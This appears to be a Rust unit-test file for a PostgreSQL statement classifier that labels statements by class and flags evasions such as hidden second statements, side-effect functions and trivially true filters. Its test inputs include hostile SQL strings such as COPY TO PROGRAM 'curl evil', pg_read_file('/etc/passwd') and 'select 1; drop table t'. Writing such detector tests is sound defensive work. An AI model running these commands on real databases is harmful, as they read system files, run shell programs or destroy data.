//! Classifier unit tests: one per class and flag, plus the evasions a guarded user would try.

use std::sync::Arc;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

use super::{Classifier, classify};
use crate::facts::{
    CopyDirection, CopyTarget, PreparedRef, StatementClass as C, StatementFacts, TableRef,
    WhereFacts,
};

/// The facts of a text holding exactly one statement.
fn one(sql: &str) -> StatementFacts {
    let mut facts = classify(sql);
    assert_eq!(facts.len(), 1, "{sql}: {facts:#?}");
    facts.remove(0)
}

fn class(sql: &str) -> C {
    one(sql).class
}

fn tables(sql: &str) -> Vec<String> {
    one(sql).tables.iter().map(ToString::to_string).collect()
}

fn filter(sql: &str) -> Option<WhereFacts> {
    one(sql).where_clause
}

#[test]
fn classes_of_plain_statements() {
    let cases = [
        ("select 1", C::Read, "SELECT"),
        ("values (1), (2)", C::Read, "SELECT"),
        ("table t", C::Read, "SELECT"),
        ("select * from a union select * from b", C::Read, "SELECT"),
        ("insert into t values (1)", C::Write, "INSERT"),
        ("update t set a = 1 where id = 2", C::Write, "UPDATE"),
        ("delete from t where id = 2", C::Write, "DELETE"),
        (
            "merge into t using s on t.id = s.id when matched then update set a = s.a",
            C::Write,
            "MERGE",
        ),
        ("truncate t", C::Write, "TRUNCATE"),
        (
            "lock table t in access exclusive mode",
            C::Write,
            "LOCK TABLE",
        ),
        ("create table t (id int)", C::Ddl, "CREATE TABLE"),
        ("create temp table t (id int)", C::Ddl, "CREATE TABLE"),
        ("alter table t add column b int", C::Ddl, "ALTER TABLE"),
        ("drop table t", C::Ddl, "DROP TABLE"),
        ("drop index i", C::Ddl, "DROP INDEX"),
        ("drop schema s cascade", C::Ddl, "DROP SCHEMA"),
        ("create index on t (a)", C::Ddl, "CREATE INDEX"),
        ("create view v as select 1", C::Ddl, "CREATE VIEW"),
        ("comment on table t is 'x'", C::Ddl, "COMMENT"),
        (
            "create function f() returns int language sql as $$ select 1 $$",
            C::Ddl,
            "CREATE FUNCTION",
        ),
        (
            "create procedure p() language sql as $$ select 1 $$",
            C::Ddl,
            "CREATE PROCEDURE",
        ),
        (
            "create table t2 as select * from t",
            C::Ddl,
            "CREATE TABLE AS",
        ),
        (
            "create materialized view m as select 1",
            C::Ddl,
            "CREATE MATERIALIZED VIEW",
        ),
        (
            "refresh materialized view m",
            C::Ddl,
            "REFRESH MATERIALIZED VIEW",
        ),
        ("alter table t rename to u", C::Ddl, "ALTER TABLE"),
        ("create sequence s", C::Ddl, "CREATE SEQUENCE"),
        (
            "create type mood as enum ('sad', 'ok')",
            C::Ddl,
            "CREATE TYPE",
        ),
        ("grant select on t to bob", C::Dcl, "GRANT"),
        ("revoke all on t from bob", C::Dcl, "REVOKE"),
        ("grant admin to bob", C::Dcl, "GRANT ROLE"),
        ("create role bob login password 'x'", C::Dcl, "CREATE ROLE"),
        ("alter role bob superuser", C::Dcl, "ALTER ROLE"),
        ("alter user bob set search_path = x", C::Dcl, "ALTER ROLE"),
        ("drop role bob", C::Dcl, "DROP ROLE"),
        ("alter table t owner to bob", C::Ddl, "ALTER TABLE"),
        ("alter function f() owner to bob", C::Dcl, "ALTER FUNCTION"),
        ("create policy p on t using (true)", C::Dcl, "CREATE POLICY"),
        (
            "create user mapping for bob server s options (password 'x')",
            C::Dcl,
            "CREATE USER MAPPING",
        ),
        (
            "alter default privileges grant select on tables to bob",
            C::Dcl,
            "ALTER DEFAULT PRIVILEGES",
        ),
        ("vacuum t", C::Admin, "VACUUM"),
        ("analyze t", C::Admin, "ANALYZE"),
        ("cluster t using i", C::Admin, "CLUSTER"),
        ("reindex table t", C::Admin, "REINDEX"),
        ("checkpoint", C::Admin, "CHECKPOINT"),
        ("load 'auto_explain'", C::Admin, "LOAD"),
        (
            "alter system set work_mem = '1GB'",
            C::Admin,
            "ALTER SYSTEM",
        ),
        ("create database d", C::Admin, "CREATE DATABASE"),
        ("drop database d", C::Admin, "DROP DATABASE"),
        ("create extension dblink", C::Admin, "CREATE EXTENSION"),
        ("drop extension dblink", C::Admin, "DROP EXTENSION"),
        (
            "create tablespace ts location '/tmp'",
            C::Admin,
            "CREATE TABLESPACE",
        ),
        (
            "create server s foreign data wrapper postgres_fdw",
            C::Admin,
            "CREATE SERVER",
        ),
        (
            "create subscription s connection 'x' publication p",
            C::Admin,
            "CREATE SUBSCRIPTION",
        ),
        (
            "create event trigger e on ddl_command_start execute function f()",
            C::Admin,
            "CREATE EVENT TRIGGER",
        ),
        ("do $$ begin perform 1; end $$", C::Procedural, "DO"),
        ("call p(1)", C::Procedural, "CALL"),
        ("begin", C::Transaction, "BEGIN"),
        (
            "start transaction isolation level serializable",
            C::Transaction,
            "START TRANSACTION",
        ),
        ("commit", C::Transaction, "COMMIT"),
        ("rollback", C::Transaction, "ROLLBACK"),
        ("savepoint a", C::Transaction, "SAVEPOINT"),
        ("rollback to savepoint a", C::Transaction, "ROLLBACK"),
        ("release a", C::Transaction, "RELEASE"),
        (
            "prepare transaction 'x'",
            C::Transaction,
            "PREPARE TRANSACTION",
        ),
        ("commit prepared 'x'", C::Transaction, "COMMIT PREPARED"),
        ("set search_path = app, public", C::Session, "SET"),
        ("set time zone 'UTC'", C::Session, "SET"),
        ("reset work_mem", C::Session, "RESET"),
        ("show search_path", C::Session, "SHOW"),
        ("discard plans", C::Session, "DISCARD PLANS"),
        ("listen chan", C::Session, "LISTEN"),
        ("unlisten *", C::Session, "UNLISTEN"),
        ("notify chan, 'x'", C::Session, "NOTIFY"),
        ("prepare p as select 1", C::Session, "PREPARE"),
        ("execute p", C::Session, "EXECUTE"),
        ("deallocate p", C::Session, "DEALLOCATE"),
        ("deallocate all", C::Session, "DEALLOCATE ALL"),
        ("close c", C::Session, "CLOSE CURSOR"),
        (
            "set constraints all deferred",
            C::Session,
            "SET CONSTRAINTS",
        ),
        (
            "declare c cursor for select * from t",
            C::Read,
            "DECLARE CURSOR",
        ),
        ("fetch 10 from c", C::Read, "FETCH"),
        ("move next in c", C::Read, "MOVE"),
        ("explain select * from t", C::Read, "EXPLAIN"),
        ("explain delete from t", C::Read, "EXPLAIN"),
        ("copy t to stdout", C::Copy, "COPY"),
    ];
    for (sql, expected_class, expected_command) in cases {
        let f = one(sql);
        assert_eq!(
            (f.class, f.command.as_str()),
            (expected_class, expected_command),
            "{sql}"
        );
        assert_eq!(f.parse_error, None, "{sql}");
    }
}

#[test]
fn empty_and_comment_only_text_has_no_statements() {
    for sql in [
        "",
        "   \n\t ",
        "-- nothing",
        "/* a */ /* b */",
        ";",
        " ; ; ",
        "/* /* nested */ */",
    ] {
        assert!(classify(sql).is_empty(), "{sql:?}");
    }
}

#[test]
fn unparsable_text_is_one_unknown_with_the_server_message() {
    let facts = classify("select 1; selec 2; drop table t");
    assert_eq!(facts.len(), 1);
    assert_eq!(facts[0].class, C::Unknown);
    assert_eq!(facts[0].span, 0..31);
    let error = facts[0].parse_error.as_deref().unwrap_or_default();
    assert!(
        error.contains("syntax error at or near \"selec\""),
        "{error}"
    );
    assert_eq!(facts[0].normalized, "select 1; selec 2; drop table t");

    let nul = classify("select 1\0; drop table t");
    assert_eq!(nul.len(), 1);
    assert_eq!(nul[0].class, C::Unknown);
    assert!(
        nul[0]
            .parse_error
            .as_deref()
            .is_some_and(|e| e.contains("NUL"))
    );
}

#[test]
fn several_statements_each_get_facts_and_a_span() {
    let sql = "select 1; drop table t;\n  -- tail\n update t set a = 1  ";
    let facts = classify(sql);
    let got: Vec<_> = facts
        .iter()
        .map(|f| (f.class, &sql[f.span.clone()]))
        .collect();
    assert_eq!(
        got,
        vec![
            (C::Read, "select 1"),
            (C::Ddl, "drop table t"),
            (C::Write, "update t set a = 1"),
        ]
    );
}

#[test]
fn spans_survive_multibyte_text() {
    let sql = "select 'é'; select 'ß' as \"ü\"";
    for f in classify(sql) {
        assert!(sql.is_char_boundary(f.span.start) && sql.is_char_boundary(f.span.end));
    }
}

#[test]
fn evasions_through_comments_case_and_whitespace_change_nothing() {
    for sql in [
        "DROP TABLE t",
        "dRoP\n\t  TaBlE t",
        "/* harmless */ drop /* really */ table t",
        "drop -- comment\n table t",
        "/* nested /* comment */ */ drop table t",
    ] {
        let f = one(sql);
        assert_eq!(
            (f.class, f.command.as_str()),
            (C::Ddl, "DROP TABLE"),
            "{sql}"
        );
        assert_eq!(f.normalized.to_lowercase(), "drop table t", "{sql}");
    }
}

#[test]
fn a_hidden_second_statement_is_found() {
    let facts = classify("select 1; drop table t");
    assert_eq!(
        facts.iter().map(|f| f.class).collect::<Vec<_>>(),
        vec![C::Read, C::Ddl]
    );
    // Inside a string or a comment it is just text.
    assert_eq!(classify("select 'x; drop table t'").len(), 1);
    assert_eq!(classify("select 1 -- ; drop table t").len(), 1);
    assert_eq!(classify("select $$; drop table t$$").len(), 1);
    assert_eq!(classify("select $tag$ $$; drop table t $tag$").len(), 1);
    assert_eq!(classify("select \"a;drop table t\" from t").len(), 1);
    assert_eq!(classify("select E'\\'; drop table t'").len(), 1);
}

#[test]
fn dollar_quoted_do_blocks_are_procedural() {
    for sql in [
        "do $$ begin delete from t; end $$",
        "DO $body$ BEGIN EXECUTE 'drop table t'; END $body$",
        "do language plpgsql $x$ begin null; end $x$",
    ] {
        assert_eq!(class(sql), C::Procedural, "{sql}");
    }
}

#[test]
fn tables_include_subqueries_ctes_and_schemas() {
    assert_eq!(
        tables("select * from public.a join b on true where exists (select 1 from s.c)"),
        vec!["public.a", "b", "s.c"]
    );
    assert_eq!(
        tables("select (select max(x) from inner_t) from outer_t"),
        vec!["inner_t", "outer_t"]
    );
    assert_eq!(
        tables("with x as (select * from real_t) select * from x"),
        vec!["real_t"]
    );
    assert_eq!(
        tables("select * from \"Quoted\".\"MixedCase\""),
        vec!["Quoted.MixedCase"]
    );
    assert_eq!(tables("insert into t select * from u"), vec!["t", "u"]);
    assert_eq!(tables("drop table a, s.b"), vec!["a", "s.b"]);
    assert_eq!(tables("truncate a, b"), vec!["a", "b"]);
    assert_eq!(tables("copy t (a) to stdout"), vec!["t"]);
    assert_eq!(tables("alter table t add column c int"), vec!["t"]);
    assert_eq!(tables("comment on column s.t.c is 'x'"), vec!["s.t"]);
    assert_eq!(
        one("select * from a.t, b.f()").schemas,
        vec!["a".to_owned(), "b".to_owned()]
    );
    assert_eq!(one("drop schema billing cascade").schemas, vec!["billing"]);
    assert_eq!(
        one("grant usage on schema billing to bob").schemas,
        vec!["billing"]
    );
}

#[test]
fn cte_names_shadow_tables_only_where_postgres_says_so() {
    // A non-recursive CTE cannot see itself: the inner `users` is the real table.
    assert_eq!(
        tables("with users as (select * from users) select * from users"),
        vec!["users"]
    );
    // A CTE named like a table, used in another FROM item of an outer query: the outer
    // reference is the real table.
    assert_eq!(
        tables("select * from secrets, (with secrets as (select 1) select * from secrets) s"),
        vec!["secrets"]
    );
    // Later CTEs see earlier ones; earlier ones do not see later ones.
    assert_eq!(
        tables("with a as (select * from b), b as (select * from a) select * from b"),
        vec!["b"]
    );
    // A DML target is never a CTE.
    assert_eq!(tables("with t as (select 1) delete from t"), vec!["t"]);
    // A schema-qualified name is never a CTE.
    assert_eq!(
        tables("with t as (select 1) select * from public.t"),
        vec!["public.t"]
    );
    // Recursive CTEs see themselves.
    assert_eq!(
        tables("with recursive r(n) as (select 1 union all select n + 1 from r) select * from r"),
        Vec::<String>::new()
    );
}

#[test]
fn functions_are_listed_exactly_as_the_server_resolves_them() {
    let f = one("select lower(a), pg_catalog.upper(b), \"MyFunc\"(c) from t");
    assert_eq!(f.functions, vec!["lower", "pg_catalog.upper", "MyFunc"]);
    assert!(f.side_effect_functions.is_empty());
    assert_eq!(f.class, C::Read);
}

#[test]
fn side_effect_functions_escalate_a_select() {
    let cases = [
        ("select pg_terminate_backend(1)", C::Admin),
        ("SELECT PG_TERMINATE_BACKEND(1)", C::Admin),
        ("select pg_catalog.pg_cancel_backend(1)", C::Admin),
        ("select pg_read_file('/etc/passwd')", C::Admin),
        ("select \"pg_read_file\"('/etc/passwd')", C::Admin),
        ("select lo_import('/etc/passwd')", C::Admin),
        ("select lo_unlink(42)", C::Write),
        ("select nextval('s')", C::Write),
        ("select setval('s', 1)", C::Write),
        ("select pg_advisory_lock(1)", C::Session),
        ("select pg_notify('c', 'x')", C::Session),
        ("select set_config('work_mem', '1GB', false)", C::Session),
        ("select dblink_exec('host=x', 'drop table t')", C::Admin),
        ("select ext.dblink('x', 'y')", C::Admin),
        ("select pg_reload_conf()", C::Admin),
        ("select pg_switch_wal()", C::Admin),
        // Hidden inside expressions the stock pg_query walker skips.
        ("values (pg_terminate_backend(1))", C::Admin),
        ("select (pg_read_file('x'))[1]", C::Admin),
        ("select array[pg_terminate_backend(1)]", C::Admin),
        ("select 1 limit pg_terminate_backend(1)::int", C::Admin),
        (
            "select * from t order by pg_terminate_backend(pid)",
            C::Admin,
        ),
        ("select * from pg_ls_dir('.')", C::Admin),
        ("select * from rows from (pg_ls_dir('.'))", C::Admin),
        (
            "select count(*) filter (where pg_terminate_backend(1)) from t",
            C::Admin,
        ),
        (
            "select case when true then pg_terminate_backend(1) end",
            C::Admin,
        ),
        ("select coalesce(null, pg_terminate_backend(1))", C::Admin),
        (
            "select x from t group by rollup(pg_terminate_backend(1))",
            C::Admin,
        ),
        (
            "select * from json_table('[]', '$' columns (a int path '$')) where pg_terminate_backend(1)",
            C::Admin,
        ),
        ("select xmlelement(name a, pg_read_file('x'))", C::Admin),
        (
            "select 1 from t window w as (order by pg_terminate_backend(1))",
            C::Admin,
        ),
        (
            "with x as (select pg_terminate_backend(1)) select * from x",
            C::Admin,
        ),
        (
            "declare c cursor for select pg_terminate_backend(1)",
            C::Admin,
        ),
        (
            "delete from t where id = 1 and pg_terminate_backend(1)",
            C::Admin,
        ),
        ("insert into t values (nextval('s'))", C::Write),
    ];
    for (sql, expected) in cases {
        let f = one(sql);
        assert_eq!(f.class, expected, "{sql}: {f:#?}");
        assert!(!f.side_effect_functions.is_empty(), "{sql}");
    }
    // A quoted upper-case name is another function, which the server would not resolve to
    // pg_read_file.
    let f = one("select \"PG_READ_FILE\"('x')");
    assert_eq!(f.functions, vec!["PG_READ_FILE"]);
    assert!(f.side_effect_functions.is_empty());
    assert_eq!(f.class, C::Read);
}

#[test]
fn explain_without_analyze_runs_nothing() {
    let f = one("explain select pg_terminate_backend(1) from t");
    assert_eq!(f.class, C::Read);
    assert_eq!(f.functions, vec!["pg_terminate_backend"]);
    assert!(f.side_effect_functions.is_empty());
    let f = one("explain (costs off) delete from t");
    assert_eq!((f.class, f.where_clause), (C::Read, None));
    assert!(!f.explain_analyze_write);
    let f = one("explain (analyze false) delete from t");
    assert_eq!(f.class, C::Read);
}

#[test]
fn explain_analyze_is_the_statement_it_runs() {
    for sql in [
        "explain analyze delete from t",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t",
        "explain (analyze on) delete from t",
        "explain (analyze 1, format json) delete from t",
    ] {
        let f = one(sql);
        assert_eq!(f.class, C::Write, "{sql}");
        assert_eq!(f.command, "DELETE", "{sql}");
        assert!(f.explain_analyze_write, "{sql}");
        assert_eq!(f.where_clause, Some(WhereFacts::Missing), "{sql}");
    }
    let f = one("explain analyze select * from t");
    assert_eq!(f.class, C::Read);
    assert!(!f.explain_analyze_write);
    let f = one("explain analyze select pg_terminate_backend(1)");
    assert_eq!(f.class, C::Admin);
    assert!(f.explain_analyze_write);
    let f = one("explain analyze create table t2 as select 1");
    assert_eq!(f.class, C::Ddl);
    assert!(f.explain_analyze_write);
}

#[test]
fn select_into_creates_a_table() {
    let f = one("select * into t2 from t");
    assert_eq!((f.class, f.command.as_str()), (C::Ddl, "SELECT INTO"));
    assert!(f.select_into);
    assert_eq!(
        f.tables,
        vec![TableRef::new(None, "t2"), TableRef::new(None, "t")]
    );
    let f = one("select * into temp t2 from t");
    assert!(f.select_into);
}

#[test]
fn modifying_ctes_make_a_select_a_write() {
    let f = one("with d as (delete from t returning *) select * from d");
    assert_eq!(f.class, C::Write);
    assert!(f.modifying_cte);
    assert_eq!(f.where_clause, Some(WhereFacts::Missing));
    assert_eq!(f.writes.len(), 1);
    assert_eq!(f.writes[0].command, "DELETE");
    let f = one("with u as (update t set a = 1 where id = 3 returning *) select * from u");
    assert!(f.modifying_cte);
    assert_eq!(f.where_clause, Some(WhereFacts::Present));
    let f = one("with i as (insert into log values (1) returning *) select * from i");
    assert!(f.modifying_cte);
    assert_eq!(f.where_clause, None);
    // Nested deeper.
    let f =
        one("select * from (with d as (delete from t where true returning *) select * from d) x");
    assert!(f.modifying_cte);
    assert_eq!(f.where_clause, Some(WhereFacts::TriviallyTrue));
    // A read-only CTE is just a read.
    let f = one("with x as (select 1) select * from x");
    assert!(!f.modifying_cte);
    assert_eq!(f.class, C::Read);
}

#[test]
fn where_clauses_missing_trivial_or_present() {
    use WhereFacts::{Missing, Present, TriviallyTrue};
    let cases = [
        ("delete from t", Missing),
        ("update t set a = 1", Missing),
        ("delete from t where true", TriviallyTrue),
        ("delete from t where 1=1", TriviallyTrue),
        ("delete from t where 1 = 1", TriviallyTrue),
        ("delete from t where 'a'='a'", TriviallyTrue),
        ("delete from t where id = id", TriviallyTrue),
        ("delete from t where t.id = t.id", TriviallyTrue),
        ("update t set v = 1 where id = t.id", TriviallyTrue),
        ("update t c set v = 1 where c.id = id", TriviallyTrue),
        (
            "update public.t set v = 1 where t.id = public.t.id",
            TriviallyTrue,
        ),
        (
            "update t set v = 1 where (id + 0) = (id + 0)",
            TriviallyTrue,
        ),
        (
            "update t set v = 1 where lower(name) = lower(name)",
            TriviallyTrue,
        ),
        ("delete from t using u where t.id = u.id", Present),
        ("delete from t where id = u.id", Present),
        ("delete from t where id >= id", TriviallyTrue),
        ("delete from t where not false", TriviallyTrue),
        ("delete from t where 1", TriviallyTrue),
        ("delete from t where 't'", TriviallyTrue),
        ("delete from t where 'yes'::boolean", TriviallyTrue),
        ("delete from t where true or id = 1", TriviallyTrue),
        ("delete from t where id = 1 or true", TriviallyTrue),
        ("delete from t where id = 1 or 1 = 1", TriviallyTrue),
        ("delete from t where (true)", TriviallyTrue),
        ("delete from t where ((1 = 1))", TriviallyTrue),
        ("delete from t where id is not null or true", TriviallyTrue),
        ("delete from t where 1 < 2", TriviallyTrue),
        ("delete from t where 2 > 1 and 3 >= 3", TriviallyTrue),
        ("delete from t where 1 + 1 = 2", TriviallyTrue),
        ("delete from t where -1 < 0", TriviallyTrue),
        ("delete from t where '1' = 1", TriviallyTrue),
        ("delete from t where 1 in (1, 2)", TriviallyTrue),
        ("delete from t where 5 between 1 and 10", TriviallyTrue),
        ("delete from t where null is null", TriviallyTrue),
        ("delete from t where true is true", TriviallyTrue),
        ("delete from t where not (id <> id)", TriviallyTrue),
        (
            "delete from t where id is null or id is not null",
            TriviallyTrue,
        ),
        ("delete from t where name like '%'", TriviallyTrue),
        ("delete from t where 'abc' like 'a%'", TriviallyTrue),
        ("delete from t where exists (select 1)", TriviallyTrue),
        ("delete from t where coalesce(null, true)", TriviallyTrue),
        (
            "delete from t where 1 is not distinct from 1",
            TriviallyTrue,
        ),
        (
            "delete from t where id = 1 or (2 = 2 and not false)",
            TriviallyTrue,
        ),
        // No column at all: the same for every row.
        ("delete from t where $1", TriviallyTrue),
        ("delete from t where now() > '2020-01-01'", TriviallyTrue),
        ("delete from t where current_user = 'bob'", TriviallyTrue),
        (
            "delete from t where (select count(*) from u) > 0",
            TriviallyTrue,
        ),
        ("delete from t where 'a' < 'b'", TriviallyTrue),
        ("update t set a = 1 where true", TriviallyTrue),
        // Real filters.
        ("delete from t where id = 1", Present),
        ("delete from t where id = $1", Present),
        ("delete from t where id in (1, 2, 3)", Present),
        ("delete from t where id = 1 and true", Present),
        ("delete from t where id > 5 or id < 2", Present),
        ("delete from t where a = b", Present),
        ("delete from t where t.id = u.id", Present),
        (
            "delete from t where created < now() - interval '1 day'",
            Present,
        ),
        ("delete from t using u where t.id = u.id", Present),
        (
            "delete from t where exists (select 1 from u where u.id = t.id)",
            Present,
        ),
        ("delete from t where current of c", Present),
        ("delete from t where name like 'a%'", Present),
        ("delete from t where id is not null", Present),
        ("delete from t where id = 1 or false", Present),
        // Provably false: touches nothing.
        ("delete from t where false", Present),
        // Compared constants are never evaluated (decision 37): a branch without a target
        // column may be true for every row, whatever it says.
        ("delete from t where 1 = 0", TriviallyTrue),
        ("delete from t where id = 1 or 1e400 < 1e401", TriviallyTrue),
        (
            "delete from t where id = 1 or 123456789012345678901234567890.1 > 123456789012345678901234567890",
            TriviallyTrue,
        ),
        ("delete from t where id = 1 and 2 > 3", Present),
        ("delete from t where null", Present),
        ("delete from t where id <> id", Present),
    ];
    for (sql, expected) in cases {
        assert_eq!(filter(sql), Some(expected), "{sql}");
    }
    assert_eq!(filter("select * from t where true"), None);
    assert_eq!(filter("insert into t values (1)"), None);
}

#[test]
fn a_like_between_constants_is_not_evaluated() {
    let s = "a".repeat(5_000);
    let p = "%a".repeat(2_000) + "b";
    let sql = format!("delete from t where '{s}' like '{p}' or id = 1");
    assert_eq!(filter(&sql), Some(WhereFacts::TriviallyTrue));
}

#[test]
fn merge_filters() {
    use WhereFacts::{Missing, Present, TriviallyTrue};
    let base = "merge into t using s on ";
    let cases = [
        ("t.id = s.id when matched then delete", Some(Present)),
        ("true when matched then delete", Some(TriviallyTrue)),
        ("true when matched and t.id = 1 then delete", Some(Present)),
        (
            "t.id = s.id when not matched then insert values (s.id)",
            None,
        ),
        (
            "t.id = s.id when not matched by source then delete",
            Some(Missing),
        ),
        (
            "t.id = s.id when not matched by source and t.old then delete",
            Some(Present),
        ),
        (
            "1 = 1 when matched then update set a = 1",
            Some(TriviallyTrue),
        ),
        ("s.id = s.id when matched then delete", Some(TriviallyTrue)),
        (
            "t.id = s.id or s.any when matched then delete",
            Some(TriviallyTrue),
        ),
        ("t.id = t.id when matched then delete", Some(TriviallyTrue)),
        (
            "t.id = s.id when matched and $1 then update set a = 1",
            Some(Present),
        ),
    ];
    for (rest, expected) in cases {
        let sql = format!("{base}{rest}");
        assert_eq!(filter(&sql), expected, "{sql}");
    }
}

/// Every way a filter can be true must constrain the target's own row (decision 37).
#[test]
fn a_filter_selects_rows_only_if_every_branch_constrains_the_target() {
    use WhereFacts::{Present, TriviallyTrue};
    let cases = [
        // Branches without a target column: constants, parameters, functions of no column,
        // uncorrelated subqueries, CASE over constants.
        ("delete from t where id = 1 or $1", TriviallyTrue),
        ("delete from t where id = 1 or $1::int = 1", TriviallyTrue),
        ("delete from t where id = 1 or now() > $2", TriviallyTrue),
        (
            "delete from t where id = 1 or current_user = 'app'",
            TriviallyTrue,
        ),
        (
            "delete from t where id = 1 or exists (select 1 from u)",
            TriviallyTrue,
        ),
        (
            "delete from t where id = 1 or (select count(*) from u) > 0",
            TriviallyTrue,
        ),
        (
            "delete from t where id = 1 or case when 1 > 0 then true end",
            TriviallyTrue,
        ),
        (
            "delete from t where case when $1 then true else id = 1 end",
            TriviallyTrue,
        ),
        (
            "delete from t where case when id = 1 then true else false end",
            Present,
        ),
        (
            "delete from t where case when id = 1 then false else true end",
            Present,
        ),
        (
            "delete from t where case when $1 then id = 2 else id = 1 end",
            Present,
        ),
        ("delete from t where case when $1 then id = 2 end", Present),
        ("delete from t where coalesce(id = 1, true)", TriviallyTrue),
        ("delete from t where coalesce(id = 1, id = 2)", Present),
        // De Morgan: NOT (a AND b) is NOT a OR NOT b.
        ("delete from t where not (id <> 1 and $1)", TriviallyTrue),
        ("delete from t where not (id <> 1 or $1)", Present),
        (
            "delete from t where not not (id = 1 or 1 = 1)",
            TriviallyTrue,
        ),
        (
            "delete from t where (id = 1 or 1 = 1) is true",
            TriviallyTrue,
        ),
        ("delete from t where (id = 1 and $1) is not false", Present),
        (
            "delete from t where (id <> 1 and $1) is false",
            TriviallyTrue,
        ),
        // IN, ANY and BETWEEN are the ORs and ANDs they stand for.
        ("delete from t where 1 in (1, id)", TriviallyTrue),
        ("delete from t where id in (1, 2)", Present),
        ("delete from t where 1 not in (2, id)", Present),
        ("delete from t where not (1 not in (2, id))", TriviallyTrue),
        ("delete from t where 1 = any (array[1, id])", TriviallyTrue),
        ("delete from t where id = any (array[1, 2])", Present),
        ("delete from t where id = any ($1)", Present),
        ("delete from t where 1 <> all (array[2, id])", Present),
        ("delete from t where 1 not between 0 and id", TriviallyTrue),
        ("delete from t where 1 between 0 and id", Present),
        ("delete from t where id not between 1 and 5", Present),
        // Truth values compared: the condition inside must constrain either way.
        ("delete from t where (id = 1 or true) = true", TriviallyTrue),
        (
            "delete from t where (id = 1 or 1 = 1) = (2 = 2)",
            TriviallyTrue,
        ),
        ("delete from t where (id = 1) = true", Present),
        // Forms that refer to the row and still hold for every row.
        ("delete from t where t.id = id", TriviallyTrue),
        (
            "delete from t as x where x.id = t2.id or x.id >= x.id",
            TriviallyTrue,
        ),
        ("delete from t where name ilike '%%'", TriviallyTrue),
        ("delete from t where not (name not like '%')", TriviallyTrue),
        // Joins: only conditions on the target's own columns restrict it.
        ("update t set a = 1 from u where u.id = 5", TriviallyTrue),
        ("update t set a = 1 from u where u.id = u.id", TriviallyTrue),
        ("update t set a = 1 from u where t.id = u.id", Present),
        ("update t as x set a = 1 from u where x.id = u.id", Present),
        ("delete from t using u where u.flag", TriviallyTrue),
        (
            "delete from t using u where t.id = u.id or u.all_rows",
            TriviallyTrue,
        ),
        ("delete from t using u where t.id = u.id", Present),
        // Subqueries: only a qualified reference to the target counts inside.
        (
            "delete from t where exists (select 1 from u where u.id = t.id)",
            Present,
        ),
        (
            "delete from t where exists (select 1 from u where u.id = id)",
            TriviallyTrue,
        ),
        (
            "delete from t where exists (select 1 from t where t.id = t.id)",
            TriviallyTrue,
        ),
        ("delete from t where id in (select id from u)", Present),
        ("delete from t where id = (select max(id) from t)", Present),
        (
            "delete from t where (id = 1 or true) = (select true)",
            TriviallyTrue,
        ),
    ];
    for (sql, expected) in cases {
        assert_eq!(filter(sql), Some(expected), "{sql}");
    }
}

#[test]
fn an_upsert_that_reads_its_own_table_updates_every_row_it_reads() {
    use WhereFacts::{Missing, Present, TriviallyTrue};
    let cases = [
        (
            "insert into t select * from t on conflict (id) do update set a = 0",
            Some(Missing),
        ),
        (
            "insert into t (id) select id from t where id > 5 on conflict (id) do update set a = 0",
            Some(Missing),
        ),
        (
            "with s as (select id from t) insert into t (id) select id from s \
             on conflict (id) do update set a = 0",
            Some(Missing),
        ),
        (
            "insert into t select * from t on conflict (id) do update set a = 0 where $1",
            Some(TriviallyTrue),
        ),
        (
            "insert into t select * from t on conflict (id) do update set a = 0 \
             where t.id = 7",
            Some(Present),
        ),
        (
            "insert into t as x select * from t on conflict (id) do update set a = 0 \
             where x.kind = excluded.kind",
            Some(Present),
        ),
        ("insert into t select * from t on conflict do nothing", None),
        (
            "insert into t values (1) on conflict (id) do update set a = 0",
            None,
        ),
        (
            "insert into t select * from u on conflict (id) do update set a = 0",
            None,
        ),
    ];
    for (sql, expected) in cases {
        let f = one(sql);
        assert_eq!(f.writes.len(), 1, "{sql}");
        assert_eq!(f.writes[0].filter, expected, "{sql}");
    }
}

#[test]
fn truncate_is_a_write_of_every_row() {
    let f = one("truncate table a, b cascade");
    assert_eq!((f.class, f.command.as_str()), (C::Write, "TRUNCATE"));
    assert_eq!(f.writes.len(), 2);
    assert!(
        f.writes
            .iter()
            .all(|w| w.filter == Some(WhereFacts::Missing))
    );
}

#[test]
fn locking() {
    for sql in [
        "select * from t for update",
        "select * from t for share nowait",
        "select * from t for no key update skip locked",
        "select * from (select * from t for update) x",
        "lock t",
    ] {
        let f = one(sql);
        assert!(f.locking, "{sql}");
        assert_eq!(f.class, C::Write, "{sql}");
    }
    assert!(!one("select * from t").locking);
}

#[test]
fn copy_variants() {
    let cases = [
        ("copy t to stdout", CopyDirection::To, CopyTarget::Stdio),
        ("copy t from stdin", CopyDirection::From, CopyTarget::Stdio),
        (
            "copy (select * from t) to stdout with (format csv)",
            CopyDirection::To,
            CopyTarget::Stdio,
        ),
        (
            "copy t to '/tmp/x'",
            CopyDirection::To,
            CopyTarget::File("/tmp/x".into()),
        ),
        (
            "copy t from '/etc/passwd'",
            CopyDirection::From,
            CopyTarget::File("/etc/passwd".into()),
        ),
        (
            "copy t to program 'curl evil'",
            CopyDirection::To,
            CopyTarget::Program("curl evil".into()),
        ),
        (
            "COPY t FROM PROGRAM 'id'",
            CopyDirection::From,
            CopyTarget::Program("id".into()),
        ),
    ];
    for (sql, direction, target) in cases {
        let f = one(sql);
        assert_eq!(f.class, C::Copy, "{sql}");
        let copy = f.copy.unwrap_or_else(|| panic!("{sql}: no copy facts"));
        assert_eq!((copy.direction, copy.target), (direction, target), "{sql}");
    }
    let f = one("copy t from stdin");
    assert_eq!(f.writes.len(), 1);
    assert_eq!(f.writes[0].command, "COPY");
    // The query of COPY (query) TO is carried whole, and may write.
    let f = one("copy (delete from t returning *) to stdout");
    let query = f.copy.as_ref().and_then(|c| c.query.as_ref());
    assert_eq!(query.map(|q| q.class), Some(C::Write));
    assert_eq!(f.where_clause, Some(WhereFacts::Missing));
    let f = one("copy (select pg_read_file('x')) to stdout");
    assert_eq!(f.side_effect_functions, vec!["pg_read_file"]);
}

#[test]
fn role_changes() {
    for sql in [
        "set role admin",
        "SET ROLE postgres",
        "set local role admin",
        "set session role admin",
        "set session authorization postgres",
        "set session authorization default",
        "reset role",
        "reset session authorization",
        "set role none",
        "select set_config('role', 'postgres', false)",
        "select pg_catalog.set_config('session_authorization', 'postgres', false)",
        "select set_config('ROLE', 'postgres', false)",
        "select set_config(name, 'x', false) from settings",
    ] {
        assert!(one(sql).role_change, "{sql}");
    }
    assert!(!one("set search_path = x").role_change);
    assert!(!one("select current_role").role_change);
}

#[test]
fn read_only_changes() {
